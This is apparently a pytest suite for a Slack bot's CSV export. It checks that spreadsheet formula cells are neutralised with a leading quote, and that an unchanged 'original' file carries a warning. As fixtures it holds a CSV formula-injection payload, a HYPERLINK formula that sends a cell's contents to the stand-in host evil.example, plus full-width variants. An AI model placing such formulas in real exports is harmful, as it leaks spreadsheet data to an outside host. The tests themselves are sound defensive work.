"""Row 11: a CSV export is safe to open. ``/minds ask … =HYPERLINK(…)`` makes Minds' raw data carry formula
cells; ``/minds export <study> csv raw_data`` then attaches a file in which every cell that begins with ``=``,
``+``, ``-``, ``@``, a tab or a line break (and is not a plain number) starts with ``'``, every other byte as Minds
sent it, and the comment says how many cells were changed. ``… original`` attaches Minds' file unchanged, with a
warning. Driven through the real Bolt app, the real run tracker and the real upload to the fake Slack."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from minds_bot.flows.csv_safety import needs_neutralising, neutralise_csv
from minds_bot.render.help import render_help
from minds_bot.slack.grammar import Export, parse_command
from minds_bot.store import RunKind
from tests.fakes.bot import BotHarness, bot_harness
from tests.fakes.minds_http import ok
from tests.slack.plan_samples import study_data
from tests.slack.test_plan_listeners import REQUESTER, STUDY_ID

EXPORT = f"/studies/{STUDY_ID}/export"
HOSTILE = '=HYPERLINK("http://evil.example/?q="&B2,"Open")'
# Minds' raw data as a spreadsheet would receive it: a BOM, CRLF, quoted and unquoted cells, numbers with signs.
RAW = (
    "\ufeffrespondent,question,answer,score\r\n"
    f'm-1,Q1,"{HOSTILE.replace(chr(34), chr(34) * 2)}",-3.5\r\n'
    "m-2,Q1,+49 30 1234,+2\r\n"
    "m-3,Q1,@SUM(A1:A9),1e3\r\n"
    'm-4,Q1,"-",-\r\n'
    'm-5,Q1,"\tindented",4\r\n'
    'm-6,Q1,"line one\nline two",5\r\n'
    "m-7,Q1,Plain answer — ünïcödé,6\r\n"
).encode()
SAFE = (
    "\ufeffrespondent,question,answer,score\r\n"
    f'm-1,Q1,"\'{HOSTILE.replace(chr(34), chr(34) * 2)}",-3.5\r\n'
    "m-2,Q1,'+49 30 1234,+2\r\n"
    "m-3,Q1,'@SUM(A1:A9),1e3\r\n"
    "m-4,Q1,\"'-\",'-\r\n"
    'm-5,Q1,"\'\tindented",4\r\n'
    'm-6,Q1,"line one\nline two",5\r\n'
    "m-7,Q1,Plain answer — ünïcödé,6\r\n"
).encode()
CHANGED = 6


def download(request: httpx.Request) -> httpx.Response:
    return httpx.Response(200, content=RAW, headers={"content-type": "text/csv"})


@pytest.fixture
async def bot() -> AsyncIterator[BotHarness]:
    async with bot_harness(unique_ts=True, user=REQUESTER, download=download) as harness:
        harness.minds_api.on("GET", f"/studies/{STUDY_ID}", ok(study_data()))
        harness.minds_api.on(
            "POST", EXPORT, ok({"kind": "raw_data", "format": "csv", "jobId": "job-1", "status": "queued"})
        )
        harness.minds_api.on(
            "GET", f"/studies/{STUDY_ID}/export-status", ok({"status": "completed", "filename": "cups-raw.csv"})
        )
        harness.minds_api.on(
            "GET",
            f"/studies/{STUDY_ID}/export-download",
            httpx.Response(302, headers={"location": "https://files.test/signed/cups-raw.csv"}),
        )
        yield harness


async def exported(bot: BotHarness, text: str) -> tuple[bytes, str]:
    """Run ``/minds text`` to the end: the attached file's bytes and the comment posted with it."""
    await bot.command(text)
    await bot.tracker.next_tracked(RunKind.EXPORT)
    await bot.tick()
    (complete,) = bot.slack.calls_to("files.completeUploadExternal")
    (data,) = bot.slack.uploads.values()
    return data, complete["initial_comment"]


async def test_formula_cells_in_a_csv_export_are_neutralised_and_counted(bot: BotHarness) -> None:
    data, comment = await exported(bot, f"export {STUDY_ID} csv raw_data")
    assert data == SAFE
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1][2] == "'" + HOSTILE
    assert not [cell for row in rows for cell in row if needs_neutralising(cell)]
    assert f"{CHANGED} cells began with =, +, -, @, a tab or a line break" in comment
    assert f"/minds export {STUDY_ID} csv raw original" in comment


async def test_the_original_is_attached_unchanged_on_request_with_a_warning(bot: BotHarness) -> None:
    data, comment = await exported(bot, f"export {STUDY_ID} csv raw_data original")
    assert data == RAW
    assert "Minds' original file, unchanged" in comment and "may run as formulas" in comment


def test_the_original_option_is_in_the_grammar_and_in_help() -> None:
    assert parse_command(f"export {STUDY_ID} csv raw original") == Export(
        parse_command(f"export {STUDY_ID}").study, format="csv", kind="raw_data", original=True
    )
    assert "original" in json.dumps(render_help().as_kwargs())


# --- the neutraliser on any CSV ----------------------------------------------------------------------------

HEADER = ["respondent", "question", "answer", "score"]
cells = st.text(alphabet=st.sampled_from(list('ab1.,;"=+-@\t\r\n é＝－５')), max_size=8)
tables = st.lists(st.lists(cells, min_size=4, max_size=4), min_size=1, max_size=6)


@settings(max_examples=150, deadline=None)
@given(table=tables, quoting=st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]))
def test_any_csv_reads_back_the_same_but_for_a_quote_in_front_of_each_formula_cell(
    tmp_path_factory: pytest.TempPathFactory, table: list[list[str]], quoting: int
) -> None:
    text = io.StringIO()
    csv.writer(text, quoting=quoting, lineterminator="\r\n").writerows([HEADER, *table])
    folder = tmp_path_factory.mktemp("csv")
    source, target = folder / "in.csv", folder / "out.csv"
    source.write_bytes(text.getvalue().encode())
    changed = neutralise_csv(source, target)
    original = list(csv.reader(io.StringIO(text.getvalue(), newline="")))
    read_back = list(csv.reader(io.StringIO(target.read_bytes().decode(), newline="")))
    assert read_back == [["'" + c if needs_neutralising(c) else c for c in row] for row in original]
    assert changed == sum(needs_neutralising(c) for row in original for c in row)
    # The alphabet has no quote: taking out the added ones gives Minds' bytes back, every one of them.
    assert target.read_bytes().count(b"'") == changed
    assert target.read_bytes().replace(b"'", b"") == source.read_bytes()


@pytest.mark.parametrize(
    ("value", "formula"),
    [
        ('＝HYPERLINK("https://evil.example")', True),  # full-width = (U+FF1D)
        ("＋49 30 1234", True),
        ("－1+1", True),
        ("＠SUM(A1:A9)", True),
        ("+５", True),  # a full-width digit is not a plain number
        ("-5", False),
        ("+2.5e3", False),
        ("５", False),
        ("ｅｑｕａｌｓ", False),
    ],
)
def test_full_width_formula_signs_are_neutralised_like_their_ascii_forms(value: str, formula: bool) -> None:
    assert needs_neutralising(value) is formula


def test_undecodable_bytes_and_a_semicolon_delimiter_survive(tmp_path: Path) -> None:
    source, target = tmp_path / "in.csv", tmp_path / "out.csv"
    source.write_bytes(b"a;b;c\n\xff\xfe;=1+1;-2\n")
    assert neutralise_csv(source, target) == 1
    assert target.read_bytes() == b"a;b;c\n\xff\xfe;'=1+1;-2\n"
